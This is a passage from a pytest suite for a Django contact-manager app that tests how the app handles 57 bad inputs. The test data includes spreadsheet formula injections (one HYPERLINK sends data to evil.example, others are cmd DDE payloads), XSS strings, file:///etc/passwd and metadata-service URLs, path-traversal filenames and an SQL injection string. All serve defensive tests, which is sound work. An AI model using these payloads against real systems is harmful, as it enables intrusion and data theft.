"""The 57 bad inputs of shared/research/reliability.md §5, each tried through the door a user
would use (an upload, a form, a URL, a feed). Each one gets a clear message, or is read
correctly, and a refused one leaves the account exactly as it was.

A test names the numbers it covers with ``@tries(...)``; the last test fails when a number
of the list has no test.
"""

from __future__ import annotations

import codecs
import csv
import html
import io
import json
import re
import socket
from html.parser import HTMLParser

import icalendar
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from rapport.agenda import services as agenda
from rapport.contacts import archive, imports, services
from rapport.contacts.models import Contact, PendingImport, Referral
from rapport.core.tabular import neutralize
from rapport.emails import wait_for_sending
from tests.conftest import PASSWORD

TRIED: set[int] = set()


def tries(*numbers: int):
    """Mark a test as covering these numbers of the list."""
    TRIED.update(numbers)
    return lambda test: test


HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"


def linkedin(*rows: str) -> bytes:
    return (HEADER + "".join(row + "\r\n" for row in rows)).encode()


def vcard(body: str, version: str = "3.0") -> bytes:
    return f"BEGIN:VCARD\r\nVERSION:{version}\r\n{body}END:VCARD\r\n".encode()


def state(owner) -> dict:
    """Everything the account holds, as its export shows it, and any import waiting."""
    held = archive.export_json(owner)
    held.pop("exported_at")
    held["pending imports"] = PendingImport.objects.filter(owner=owner).count()
    return held


def upload(client, data: bytes, kind="linkedin", name="contacts.csv", encoding="", **extra):
    file = SimpleUploadedFile(name, data, content_type="text/csv")
    return client.post(
        reverse("import"), {"kind": kind, "file": file, "encoding": encoding}, **extra
    )


def messages_of(page: str) -> str:
    """What the page says about the upload: its alert and the errors under fields, not the
    form's own labels and help, which every import page has."""
    alert = re.search(r'<div class="alert" role="alert">(.*?)</div>', page, re.S)
    errors = re.findall(r'<p class="error"[^>]*>(.*?)</p>', page, re.S)
    return html.unescape(" ".join([alert.group(1) if alert else "", *errors]))


def refused(client, owner, data: bytes, *phrases: str, kind="linkedin", **options) -> str:
    """Upload ``data``; assert the page's messages say every phrase and nothing was written."""
    before = state(owner)
    response = upload(client, data, kind=kind, **options)
    page = response.content.decode()
    assert response.status_code == 200, page[:300]
    said = messages_of(page)
    assert "Nothing was imported" in said or "nothing was" in said, said
    for phrase in phrases:
        assert phrase in said, said
    assert state(owner) == before
    return said


def imported(client, owner, data: bytes, kind="linkedin", **options) -> list[Contact]:
    """Upload ``data``, confirm the preview, and return the contacts the import made."""
    known = set(Contact.objects.filter(owner=owner).values_list("pk", flat=True))
    response = upload(client, data, kind=kind, **options)
    assert response.status_code == 302, response.content.decode()[:2000]
    assert client.post(response["Location"]).status_code == 302
    return list(Contact.objects.filter(owner=owner).exclude(pk__in=known).order_by("pk"))


def set_aside(client, owner, data: bytes, cells: list[tuple[int, str, str, str]]) -> list[Contact]:
    """Upload ``data``; assert its preview lists exactly ``cells`` (line, contact, label,
    value) and writes nothing; then confirm, and return the contacts the import made."""
    before = state(owner)
    known = set(Contact.objects.filter(owner=owner).values_list("pk", flat=True))
    response = upload(client, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    page = client.get(response["Location"]).content.decode()
    section = page[
        page.index('id="unusable"') : page.index("</table>", page.index('id="unusable"'))
    ]
    listed = [
        tuple(html.unescape(re.sub(r"<[^>]+>", "", cell)).strip() for cell in cells_of_row)
        for cells_of_row in (
            re.findall(r"<td[^>]*>(.*?)</td>", row)
            for row in re.findall(r"<tr>(.*?)</tr>", section)
        )
        if cells_of_row
    ]
    expected = [
        (str(line), name, f"{label[0].upper()}{label[1:]}: {imports.shown(value)}")
        for line, name, label, value in cells
    ]
    assert [row[:3] for row in listed] == expected
    assert "in notes</button>" in page
    assert state(owner) | {"pending imports": 0} == before | {"pending imports": 0}
    assert client.post(response["Location"]).status_code == 302
    return list(Contact.objects.filter(owner=owner).exclude(pk__in=known).order_by("pk"))


def names(contacts) -> list[str]:
    return [contact.name for contact in contacts]


# CSV files (1-23) -----------------------------------------------------------------------


@tries(1)
def test_a_utf8_file_with_a_byte_order_mark_reads_its_first_column(dana_client, dana):
    data = codecs.BOM_UTF8 + linkedin("Ann,Lee,,,,,")
    assert names(imported(dana_client, dana, data)) == ["Ann Lee"]


@tries(2)
def test_a_utf16_file_from_excel_reads(dana_client, dana):
    data = (HEADER + "José,Núñez,,,,,\r\n").encode("utf-16")
    assert names(imported(dana_client, dana, data)) == ["José Núñez"]


@tries(3)
def test_a_cp1252_file_is_refused_with_the_line_and_reads_when_its_encoding_is_named(
    dana_client, dana
):
    data = (HEADER + "“Bob”,Müller,,,,,\r\n").encode("cp1252")
    refused(dana_client, dana, data, "line 2", "not UTF-8", "cp1252")
    assert names(imported(dana_client, dana, data, encoding="cp1252")) == ["“Bob” Müller"]


@tries(4)
def test_one_cp1252_line_in_a_utf8_file_is_named(dana_client, dana):
    data = linkedin("José,Ruiz,,,,,") + "Hans,Müller,,,,,\r\n".encode("cp1252")
    refused(dana_client, dana, data, "line 3", "not UTF-8")


@tries(5, 6)
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_semicolon_and_tab_separated_files_read_like_commas(dana_client, dana, delimiter):
    data = (HEADER + "Ann,Lee,,,Harbor Policy Institute,,\r\n").replace(",", delimiter).encode()
    (contact,) = imported(dana_client, dana, b"Notes:\r\nsome preamble\r\n\r\n" + data)
    assert (contact.name, contact.organization.name) == ("Ann Lee", "Harbor Policy Institute")


@tries(7)
@pytest.mark.parametrize("ending", ["\r", "mixed"])
def test_old_mac_and_mixed_line_endings_read_every_row(dana_client, dana, ending):
    text = HEADER + "Ann,Lee,,,,,\r\nBo,Chen,,,,,\nCy,Diaz,,,,,\r\n"
    if ending == "\r":
        text = text.replace("\r\n", "\r").replace("\n", "\r")
    assert names(imported(dana_client, dana, text.encode())) == ["Ann Lee", "Bo Chen", "Cy Diaz"]


@tries(8)
def test_an_unterminated_quote_refuses_the_file_instead_of_swallowing_rows(dana_client, dana):
    data = linkedin('Ann,"Lee,,,,,', "Bo,Chen,,,,,")
    refused(dana_client, dana, data, "malformed", "line")


@tries(9)
def test_a_quoted_note_over_several_lines_stays_one_note(dana_client, dana):
    data = b'First Name,Last Name,Notes\r\nAnn,Lee,"Met at the fair.\nAsk about GIS."\r\n'
    (contact,) = imported(dana_client, dana, data, kind="google")
    assert contact.notes == "Met at the fair.\nAsk about GIS."


@tries(10)
def test_short_rows_read_and_rows_with_extra_cells_are_refused(dana_client, dana):
    assert names(imported(dana_client, dana, linkedin("Ann,Lee"))) == ["Ann Lee"]
    refused(dana_client, dana, linkedin("Bo,Chen,,,,,,surplus"), "line 2", "8 fields")


@tries(11)
def test_a_cell_over_the_csv_field_limit_is_refused(dana_client, dana):
    data = linkedin("Ann," + "x" * 140_000 + ",,,,,")
    refused(dana_client, dana, data, "line 2", "field larger than field limit")


@tries(12)
def test_a_nul_byte_in_a_cell_is_refused_on_every_database(dana_client, dana):
    refused(dana_client, dana, linkedin("Ann,Le\0e,,,,,"), "line 2", "NUL")


@tries(13)
@pytest.mark.parametrize(
    ("data", "phrase"),
    [
        (b"", "The submitted file is empty."),  # said by the form itself
        (b"  \r\n\r\n\t\n", "the file is empty"),
        (HEADER.encode(), "a header but no connections"),
        (b",,,,\r\n,,,\r\n", "no header line"),
    ],
)
def test_empty_blank_header_only_and_comma_only_files_say_so(dana_client, dana, data, phrase):
    before = state(dana)
    page = upload(dana_client, data).content.decode()
    assert phrase in messages_of(page)
    assert state(dana) == before


@tries(14)
def test_headers_are_matched_whatever_their_case_and_spacing(dana_client, dana):
    data = b" first name ,LAST  NAME,url\r\nAnn,Lee,\r\n"
    assert names(imported(dana_client, dana, data)) == ["Ann Lee"]
    refused(dana_client, dana, b"Email,Email\r\na@x.org,b@x.org\r\n", "First Name and Last Name")
    refused(dana_client, dana, b"Vorname,Nachname\r\nAnn,Lee\r\n", "no header line")


@tries(15)
def test_linkedins_notes_preamble_is_passed_over(dana_client, dana):
    data = (
        b'Notes:\r\n"When exporting your connection data, some e-mail addresses are missing."\r\n'
        b"\r\n" + linkedin("Ann,Lee,https://www.linkedin.com/in/ann-lee,,,,04 Sep 2026")
    )
    (contact,) = imported(dana_client, dana, data)
    assert contact.profile_url == "https://www.linkedin.com/in/ann-lee"
    assert contact.touches.get().summary == "Connected on LinkedIn"


@tries(16)
def test_the_same_person_written_six_ways_is_one_contact(dana_client, dana):
    services.save_contact(dana, Contact(name="Ann Lee"), organization="Harbor Policy Institute")
    data = linkedin(
        "José,Núñez,,,Civic Data Lab,,",
        "Jose\u0301,Nu\u0301n\u0303ez,,,Civic Data Lab,,",  # decomposed accents (NFD)
        "José ,Núñez  ,,,Civic Data Lab,,",  # trailing spaces
        "Jo\u200bsé,Núñez,,,Civic Data Lab,,",  # a zero-width space
        "Ｊｏｓé,Ｎúñｅｚ,,,Civic Data Lab,,",  # full-width letters
        "Ann,Lee,,,Harbor Policy Institute,,",  # already in the network
    )
    assert names(imported(dana_client, dana, data)) == ["José Núñez"]
    assert Contact.objects.filter(owner=dana).count() == 2


@tries(17)
def test_an_oversized_upload_is_refused_before_it_is_read(dana_client, dana, settings):
    settings.IMPORT_MAX_BYTES = 100 * 1024
    before = state(dana)
    response = upload(dana_client, linkedin(*["Ann,Lee,,,,,"] * 20_000))
    assert "imports are limited to 100.0\xa0KB" in response.content.decode()
    assert response.wsgi_request.upload_too_large > 100 * 1024  # stopped while arriving
    assert state(dana) == before


@tries(17)
def test_a_small_file_with_too_many_rows_is_refused(dana_client, dana, settings):
    settings.IMPORT_MAX_ROWS = 1000
    refused(dana_client, dana, linkedin(*["A,B"] * 1001), "1,001 entries", "at most 1,000")


@tries(18)
@pytest.mark.parametrize(
    ("data", "phrase"),
    [
        (b"PK\x03\x04\x14\x00\x06\x00workbook", "ZIP archive (an Excel .xlsx workbook is one)"),
        (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "gzip archive"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "PNG image"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "PDF document"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "old Excel"),
        (bytes(range(256)) * 4, "NUL"),  # a binary body sent as text/csv
    ],
)
def test_archives_images_and_binaries_named_csv_are_refused_for_what_they_are(
    dana_client, dana, data, phrase
):
    refused(dana_client, dana, data, phrase)


@tries(19)
@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.csv", "passwd.csv"),
        ("contacts.csv.exe", "contacts.csv.exe"),
        ('my "list"\r\n.csv', None),
        ("\u202evsc.exe", "vsc.exe"),
        ("x" * 300 + ".csv", "x" * 100),
    ],
)
def test_an_uploaded_files_name_is_only_ever_shown_and_made_harmless(
    dana_client, dana, name, shown
):
    response = upload(dana_client, linkedin("Ann,Lee,,,,,"), name=name)
    pending = PendingImport.objects.get(owner=dana)
    assert response["Location"] == reverse("import-preview", args=[pending.pk])
    if shown is None:  # the test client cuts the name at the line break; nothing is left
        assert pending.filename.startswith("my") and pending.filename.isprintable()
    else:
        assert pending.filename == shown


@tries(20)
def test_two_files_in_one_request_are_refused_whole(dana_client, dana):
    before = state(dana)
    files = [SimpleUploadedFile(f"{n}.csv", linkedin("Ann,Lee,,,,,")) for n in "ab"]
    response = dana_client.post(reverse("import"), {"kind": "linkedin", "file": files})
    assert response.status_code == 400
    assert "more than one file" in response.content.decode()
    assert state(dana) == before


@tries(21)
@pytest.mark.parametrize(
    "day", ["02/03/2024", "2024-02-30", "45321", "--0415", "0001-01-01", "9999-12-31", "yesterday"]
)
def test_dates_in_other_shapes_are_set_aside_on_their_line(dana_client, dana, day):
    data = linkedin("Ann,Lee,,,,,04 Sep 2026", f"Bo,Chen,,,,,{day}")
    [ann, bo] = set_aside(dana_client, dana, data, [(3, "Bo Chen", "Connected On", day)])
    assert ann.touches.get().summary == "Connected on LinkedIn"
    assert not bo.touches.exists()
    assert f"Connected On (not a date like 04 Sep 2026): {day}" in bo.notes


@tries(21)
@pytest.mark.parametrize("moment", ["2024-02-30T10:00", "yesterday", "45321", "--0415"])
def test_a_meeting_time_that_is_not_a_time_keeps_the_form(dana_client, dana, network, moment):
    before = state(dana)
    contact = network["contact"]
    response = dana_client.post(
        reverse("meeting-create", args=[contact.pk]),
        {"starts_at": moment, "minutes": "20", "mode": "video", "place": "My typed place"},
    )
    page = response.content.decode()
    assert response.status_code == 200 and "Enter a valid date/time" in page
    assert "My typed place" in page
    assert state(dana) == before


@tries(22)
def test_e_mail_cells_are_read_as_addresses_and_bad_ones_set_aside(dana_client, dana):
    contacts = imported(
        dana_client,
        dana,
        linkedin("Bo,Chen,,Bo Chen <bo@x.org>,,,", 'Cy,Diaz,,"cy@x.org; c@y.org",,,'),
    )
    assert [c.email for c in contacts] == ["bo@x.org", "cy@x.org"]
    assert "c@y.org" in contacts[1].notes
    too_long = "x" * 320 + "@example.org"
    for address in ["a@b", "ann@@example.org"]:
        data = linkedin(f"Ann,Lee,,{address},,,", "Dee,Lee,,dee@x.org,,,")
        [ann, dee] = set_aside(dana_client, dana, data, [(2, "Ann Lee", "e-mail", address)])
        assert ann.email == "" and f"e-mail (not an e-mail address): {address}" in ann.notes
        assert dee.email == "dee@x.org" and dee.notes == ""
        Contact.objects.filter(pk__in=[ann.pk, dee.pk]).delete()
    [ann] = set_aside(
        dana_client, dana, linkedin(f"Ann,Lee,,{too_long},,,"), [(2, "Ann Lee", "e-mail", too_long)]
    )
    assert ann.email == "" and "332 characters long; at most 254" in ann.notes


@tries(22)
def test_internationalized_addresses_are_addresses(dana_client, dana):
    """RFC 6531: a local part beyond ASCII is valid; the import and the form take it."""
    rows = ["Zoë,Lambert,,zoë.lambert@example.org,,,", "Li,Wei,,用户@例子.广告,,,"]
    contacts = imported(dana_client, dana, linkedin(*rows))
    assert sorted(c.email for c in contacts) == ["zoë.lambert@example.org", "用户@例子.广告"]
    response = dana_client.post(
        reverse("contact-create"),
        {"name": "Jörg Weiß", "email": "jörg@bücher.de", "source": "other"},
    )
    assert response.status_code == 302
    assert Contact.objects.get(owner=dana, name="Jörg Weiß").email == "jörg@bücher.de"


@tries(22)
def test_an_address_differing_only_in_case_is_the_same_person(dana_client, dana):
    services.save_contact(dana, Contact(name="Ann Lee", email="ann@example.org"))
    assert imported(dana_client, dana, linkedin("Annie,Lee,,ANN@EXAMPLE.ORG,,,")) == []


@tries(22)
def test_the_contact_form_refuses_a_bad_address_and_keeps_the_rest(dana_client, dana):
    before = state(dana)
    response = dana_client.post(
        reverse("contact-create"),
        {"name": "Ann Lee", "email": "a@x.com; b@x.com", "source": "other"},
    )
    page = response.content.decode()
    assert "Enter a valid email address" in page and 'value="Ann Lee"' in page
    assert state(dana) == before


@tries(23, 24, 25, 26, 27)
@pytest.mark.parametrize(
    "cell",
    [
        "+44 (0)20 7946 0000",
        "555-0100 ext. 12",
        "=1+1",
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "+1 555 0100",
        "\t=1+1",
        '=1+2";=1+2',
        "=1+2'\" ;,=1+2",
        "☎️ 555",
    ],
)
def test_formula_like_values_are_kept_and_exported_as_plain_text(dana_client, dana, cell):
    response = dana_client.post(
        reverse("contact-create"),
        {"name": "Ann Lee", "phone": cell[:40], "role": cell, "source": "other"},
    )
    assert response.status_code == 302
    contact = Contact.objects.get(owner=dana)
    assert contact.role == cell.strip()  # kept as typed: the risk is in a spreadsheet
    exported = dana_client.get(reverse("export-csv")).content.decode()
    (row,) = csv.DictReader(io.StringIO(exported.removeprefix("\ufeff")))
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0"))
    # An apostrophe first, and after a separator that would start a formula (core/tabular).
    assert row["role"] == neutralize(contact.role)
    assert row["role"].replace("'", "") == contact.role.replace("'", "")
    assert (
        json.loads(dana_client.get(reverse("export-json")).content)["contacts"][0]["role"]
        == contact.role
    )


# vCard files (28-38) ----------------------------------------------------------------------


@tries(28)
def test_an_android_quoted_printable_card_reads_its_accents(dana_client, dana):
    data = vcard(
        "N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:Cepl;Mat=C4=9Bj;;;\r\n"
        "FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:Mat=C4=9Bj Cepl\r\n",
        version="2.1",
    )
    assert names(imported(dana_client, dana, data, kind="vcard", name="a.vcf")) == ["Matěj Cepl"]


@tries(29)
def test_folded_lines_and_a_folded_photo_address_unfold(dana_client, dana):
    data = vcard(
        "FN:Ann Lee\r\nTITLE:Senior\r\n  planner\r\n"
        "PHOTO:https://lh3.googleusercontent.com/contacts/\r\n AAAA-long-tail\r\n"
    )
    (contact,) = imported(dana_client, dana, data, kind="vcard", name="a.vcf")
    assert (contact.name, contact.role) == ("Ann Lee", "Senior planner")


@tries(30, 31, 32, 38)
@pytest.mark.parametrize(
    ("data", "phrase"),
    [
        (b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\n", "END:VCARD missing"),
        (b"BEGIN:VCARD\r\nVERSION:s.0\r\nPROFILE:;;;;\r\nEND:VCARD\r\n", "cannot be read"),
        (vcard("FN:Ann\r\nPHOTO;ENCODING=b;TYPE=JPEAA:AAG\r\n"), "cannot be read"),
        (b"Dear Ann,\r\nthis is a letter, not a card.\r\n", "is this a vCard"),
        (
            b"BEGIN:VCARD\r\nVERSION:2.1\r\nFN:Ann\r\nAGENT:\r\nBEGIN:VCARD\r\nFN:Bo\r\n"
            b"END:VCARD\r\nEND:VCARD\r\n",
            "a card begins before the card above it ends",
        ),
    ],
)
def test_broken_cards_are_refused_naming_where(dana_client, dana, data, phrase):
    said = refused(dana_client, dana, data, phrase, kind="vcard", name="a.vcf")
    assert re.search(r"line \d+: ", said), said


@tries(33)
def test_a_card_with_a_ten_megabyte_photo_imports_the_person_not_the_photo(dana_client, dana):
    data = vcard("FN:Ann Lee\r\nPHOTO;ENCODING=b;TYPE=JPEG:" + "QUFB" * 2_600_000 + "\r\n")
    (contact,) = imported(dana_client, dana, data, kind="vcard", name="a.vcf")
    assert contact.name == "Ann Lee" and "QUFB" not in json.dumps(state(dana))


@tries(34)
def test_addresses_in_a_card_are_never_fetched(dana_client, dana, monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("the import tried to open a connection")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    data = vcard(
        "FN:Ann Lee\r\nPHOTO;VALUE=uri:http://127.0.0.1:1/\r\nURL:file:///etc/passwd\r\n"
        "URL:javascript:alert(1)\r\n",
        version="4.0",
    )
    (contact,) = imported(dana_client, dana, data, kind="vcard", name="a.vcf")
    assert contact.profile_url == ""


@tries(35)
def test_a_card_without_a_name_is_shown_as_skipped(dana_client, dana):
    data = vcard("EMAIL:ann@x.org\r\n") + vcard("FN:Bo Chen\r\n")
    response = upload(dana_client, data, kind="vcard", name="a.vcf")
    preview = dana_client.get(response["Location"]).content.decode()
    assert "the card has no name" in preview
    assert names(imported(dana_client, dana, data, kind="vcard", name="a.vcf")) == ["Bo Chen"]


@tries(36)
def test_five_thousand_cards_import_and_a_file_over_the_row_cap_is_refused(
    dana_client, dana, settings
):
    data = b"".join(vcard(f"FN:Person {n}\r\n") for n in range(5000))
    assert len(imported(dana_client, dana, data, kind="vcard", name="a.vcf")) == 5000
    settings.IMPORT_MAX_ROWS = 4999
    refused(dana_client, dana, data, "5,000 entries", kind="vcard", name="a.vcf")


@tries(37, 38)
def test_a_birthday_without_a_year_and_two_versions_do_not_break_a_card(dana_client, dana):
    data = vcard("FN:Ann Lee\r\nBDAY:--0415\r\n", version="4.0") + vcard(
        "VERSION:4.0\r\nFN:Bo Chen\r\n"
    )
    assert names(imported(dana_client, dana, data, kind="vcard", name="a.vcf")) == [
        "Ann Lee",
        "Bo Chen",
    ]


# Forms, notes and pages (39-51) ---------------------------------------------------------


class ActiveContent(HTMLParser):
    """Collects what in a page could run: event-handler attributes, inline scripts,
    javascript: links."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if name in {"href", "src", "action"} and (value or "").strip().lower().startswith(
                ("javascript:", "data:text")
            ):
                self.found.append(f"<{tag} {name}={value}>")
        src = dict(attrs).get("src") or ""
        if tag == "script" and not src.startswith("/static/"):
            self.found.append(f"<script src={src!r}>")
        if tag in {"iframe", "object", "embed"} or (
            tag == "img" and not src.startswith("/static/")
        ):
            self.found.append(f"<{tag} src={src!r}>")


def active_content(page: str) -> list[str]:
    parser = ActiveContent()
    parser.feed(page)
    return parser.found


def test_the_active_content_check_sees_what_could_run():
    page = (
        '<p onmouseover="x()"><a href=" JavaScript:x()">a</a><img src=x>'
        "<script>x()</script><script src=/static/rapport/rapport.js></script></p>"
    )
    assert len(active_content(page)) == 4


SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '" onmouseover="alert(1)'


@tries(39, 41)
@pytest.mark.parametrize("name", [SCRIPT, BREAKOUT, "class1 onmouseover=javascript:func()"])
def test_a_hostile_name_is_text_in_every_place_it_appears(dana_client, dana, network, name):
    contact = network["contact"]
    Contact.objects.filter(pk=contact.pk).update(name=name)
    pages = [
        reverse("contact-detail", args=[contact.pk]),
        reverse("contact-edit", args=[contact.pk]),
        # update() left the search text as it was: her old surname still finds her.
        reverse("contact-list") + "?q=okafor",
        reverse("meeting-detail", args=[network["meeting"].pk]),
        reverse("organization-detail", args=[network["organization"].pk]),
        reverse("home"),
    ]
    for url in pages:
        page = dana_client.get(url).content.decode()
        assert escape(name) in page, url  # shown, as text
        assert active_content(page) == [], url
    feed = dana_client.get(reverse("feed", args=[agenda.feed_token(dana)])).content
    summaries = [str(e["SUMMARY"]) for e in icalendar.Calendar.from_ical(feed).walk("VEVENT")]
    assert any(name in summary for summary in summaries)  # plain text in a calendar
    exported = dana_client.get(reverse("export-csv")).content.decode()
    cells = {c.removeprefix("'") for row in csv.reader(io.StringIO(exported)) for c in row}
    assert name in cells


@tries(40)
def test_markup_in_notes_is_cleaned_before_it_is_shown(dana_client, network):
    contact = network["contact"]
    Contact.objects.filter(pk=contact.pk).update(
        notes="<img src=x onerror=alert(1)> and [a link](javascript:alert(1)) and "
        "<svg><script>alert(1)</script></svg> <iframe src=//evil.example></iframe>"
    )
    page = dana_client.get(reverse("contact-detail", args=[contact.pk])).content.decode()
    assert active_content(page) == []
    assert "a link" in page


@tries(42)
@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd"]
)
def test_links_that_are_not_web_addresses_are_set_aside(dana_client, dana, network, link):
    before = state(dana)
    organization = network["organization"]
    response = dana_client.post(
        reverse("organization-edit", args=[organization.pk]),
        {"name": organization.name, "website": link},
    )
    assert "Enter a valid URL" in response.content.decode()
    response = dana_client.post(
        reverse("contact-create"), {"name": "Ann Lee", "profile_url": link, "source": "other"}
    )
    assert "Enter a valid URL" in response.content.decode()
    assert state(dana) == before
    [ann] = set_aside(
        dana_client, dana, linkedin(f'Ann,Lee,"{link}",,,,'), [(2, "Ann Lee", "profile URL", link)]
    )
    assert ann.profile_url == "" and f"profile URL (not a web link): {link}" in ann.notes


@tries(42)
def test_a_link_to_an_internal_address_is_only_ever_a_link(dana_client, dana, monkeypatch):
    monkeypatch.setattr(socket, "create_connection", lambda *a, **k: pytest.fail("fetched"))
    response = dana_client.post(
        reverse("contact-create"),
        {"name": "Ann Lee", "profile_url": "http://169.254.169.254/latest/", "source": "other"},
    )
    contact = Contact.objects.get(owner=dana)
    assert response["Location"] == reverse("contact-detail", args=[contact.pk])
    page = dana_client.get(response["Location"]).content.decode()
    assert 'href="http://169.254.169.254/latest/"' in page and 'rel="noopener' in page


@tries(43)
@pytest.mark.parametrize(
    "name",
    [
        "O'Brien",
        "Null",
        "undefined",
        "李小龍",
        "Ђорђе",
        "Ólafur",
        "Q",
        "👩\u200d🔬 Ada",
        "Z\u0351\u0358a\u035cl\u0361go",
    ],
)
def test_every_kind_of_real_name_is_kept_exactly(dana_client, dana, name):
    response = dana_client.post(reverse("contact-create"), {"name": name, "source": "other"})
    contact = Contact.objects.get(owner=dana)
    assert response.status_code == 302 and contact.name == name
    assert contact in services.find_contacts(dana, query=name[-2:])


@tries(43, 44)
@pytest.mark.parametrize(
    ("name", "message"),
    [(" \t ", "This field is required"), ("x" * 10_000, "at most 200 characters")],
)
def test_an_empty_or_endless_name_keeps_the_form(dana_client, dana, name, message):
    before = state(dana)
    typed = {"name": name, "role": "Typed role", "source": "other"}
    page = dana_client.post(reverse("contact-create"), typed).content.decode()
    assert message in page and 'value="Typed role"' in page
    assert state(dana) == before


@tries(44)
def test_a_five_megabyte_note_is_refused_with_a_page_saying_so(dana_client, dana, network):
    before = state(dana)
    response = dana_client.post(
        reverse("meeting-notes", args=[network["meeting"].pk]), {"notes": "x" * 5_000_000}
    )
    assert response.status_code == 400
    assert "too large" in response.content.decode()
    assert state(dana) == before


@tries(45)
def test_a_nul_in_a_form_or_a_search_is_refused_naming_the_field(dana_client, dana, network):
    before = state(dana)
    response = dana_client.post(
        reverse("meeting-notes", args=[network["meeting"].pk]), {"notes": "before\0after"}
    )
    assert response.status_code == 400
    assert "“notes” contains a NUL character" in response.content.decode()
    search = dana_client.get(reverse("contact-list") + "?q=%00")
    assert search.status_code == 400 and "“q”" in search.content.decode()
    assert state(dana) == before


@tries(46)
@pytest.mark.parametrize("query", ["%", "_", "\\", "1') or ('%'='"])
def test_search_wildcards_and_injections_are_plain_text(
    stranger_client, dana_client, network, query
):
    assert dana_client.get(reverse("contact-list"), {"q": query}).context["rows"] == []
    page = stranger_client.get(reverse("contact-list"), {"q": query}).content.decode()
    assert "CANARY" not in page and "María" not in page


@tries(47)
@pytest.mark.parametrize("id_text", ["99999999999999999999", "0", "-1", "abc", "1.5", "1e3"])
def test_ids_out_of_range_or_not_numbers_are_404(dana_client, network, id_text):
    assert dana_client.get(f"/contacts/{id_text}/").status_code == 404
    assert dana_client.get(f"/meetings/{id_text}/").status_code == 404


@tries(47)
def test_another_users_id_written_with_leading_zeros_is_still_404(stranger_client, network):
    assert stranger_client.get(f"/contacts/{network['contact'].pk:05d}/").status_code == 404


@tries(48)
def test_owner_staff_and_id_fields_in_a_post_are_ignored(dana_client, dana, stranger, network):
    fields = {"owner": stranger.pk, "owner_id": stranger.pk, "is_staff": "1", "id": 1}
    dana_client.post(reverse("contact-create"), {"name": "Ann Lee", "source": "other", **fields})
    contact = Contact.objects.get(name="Ann Lee")
    assert contact.owner == dana and contact.pk != network["contact"].pk
    dana.refresh_from_db()
    assert not dana.is_staff


@tries(49)
def test_a_repeated_field_cannot_smuggle_in_another_users_contact(dana_client, stranger, network):
    theirs = services.save_contact(stranger, Contact(name="Stranger Contact"))
    contact = network["contact"]
    before = Referral.objects.count()
    dana_client.post(
        reverse("referral-add", args=[contact.pk]),
        {"referrer_name": ["Joe Serra", theirs.name], "permission": "yes"},
    )
    assert not Referral.objects.filter(referrer=theirs).exists()
    assert Referral.objects.count() == before


@tries(50)
def test_a_get_never_deletes_and_every_page_answers_head_and_options(dana_client, network):
    before = state(network["contact"].owner)
    for name, key, status in [
        ("contact-delete", "contact", 200),  # a page asking to confirm
        ("touch-delete", "touch", 405),  # buttons that only post
        ("commonality-delete", "commonality", 405),
        ("referral-delete", "referral", 405),
    ]:
        response = dana_client.get(reverse(name, args=[network[key].pk]))
        assert response.status_code == status, name
        assert status == 200 or response["Allow"] == "POST"
    assert state(network["contact"].owner) == before
    for name in ["home", "contact-list", "dashboard", "next"]:
        assert dana_client.head(reverse(name)).status_code == 200
        assert dana_client.options(reverse(name)).status_code == 200


@tries(51)
def test_a_post_without_its_csrf_token_is_refused(dana, network):
    client = Client(enforce_csrf_checks=True)
    client.force_login(dana)
    contact = network["contact"]
    response = client.post(reverse("contact-delete", args=[contact.pk]))
    assert response.status_code == 403
    assert Contact.objects.filter(pk=contact.pk).exists()


# Accounts, headers, e-mail, feed (52-57) ------------------------------------------------


@tries(52)
def test_a_forged_host_header_is_refused(client, dana, mailoutbox, settings):
    settings.SMTP_ENABLED = True  # so that a reset would be sent, were the host believed
    response = client.post(
        reverse("login"), {"username": dana.email, "password": PASSWORD}, HTTP_HOST="evil.example"
    )
    assert response.status_code == 400
    reset = client.post(reverse("password-reset"), {"email": dana.email}, HTTP_HOST="evil.example")
    assert reset.status_code == 400
    assert mailoutbox == []
    client.post(reverse("password-reset"), {"email": dana.email})
    wait_for_sending()
    assert len(mailoutbox) == 1 and "evil.example" not in mailoutbox[0].body


@tries(53)
@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example",
        "//evil.example",
        "/\\evil.example",
        "https:evil.example",
        "javascript:alert(1)",
    ],
)
def test_logging_in_never_sends_the_user_to_another_site(client, dana, target):
    response = client.post(
        reverse("login") + "?next=" + target, {"username": dana.email, "password": PASSWORD}
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("home")


@tries(54)
def test_two_hundred_wrong_passwords_are_stopped_from_the_fifth(client, dana):
    statuses = [
        client.post(
            reverse("login"), {"username": dana.email, "password": f"guess {n}"}
        ).status_code
        for n in range(200)
    ]
    assert statuses[:4] == [200] * 4 and set(statuses[4:]) == {429}


@tries(55)
def test_a_line_break_in_a_subject_cannot_add_a_recipient(dana_client, dana, network, smtp):
    contact = network["contact"]
    Contact.objects.filter(pk=contact.pk).update(email="maria@example.org")
    response = dana_client.post(
        reverse("compose-send", args=[contact.pk]),
        {
